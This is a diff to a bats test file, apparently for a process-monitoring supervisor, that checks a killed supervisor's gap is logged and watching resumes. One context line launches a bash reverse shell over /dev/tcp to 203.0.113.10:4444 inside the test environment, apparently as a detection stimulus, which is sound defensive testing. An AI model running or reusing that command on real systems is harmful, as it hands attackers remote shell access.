@@ -243,8 +243,9 @@ again_seen() { # it sees what is run from now on
 @test "a supervisor that dies: the next command's goes on watching, and the gap is recorded" {
 	launch g2
 	kill -9 "$(pid_of g2 supervisor)"
-	running g2
-	within 10 has "$A/g2.jsonl" '.msg == "source.gap" and (.raw | test("supervisor"))'
+	# A command that comes before it is dead has nothing to do.
+	gap_told() { running g2 && has "$A/g2.jsonl" '.msg == "source.gap" and (.raw | test("supervisor"))'; }
+	within 20 gap_told
 	within 20 again_seen g2
 	inside g2 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- || true
 	within 10 not_running g2
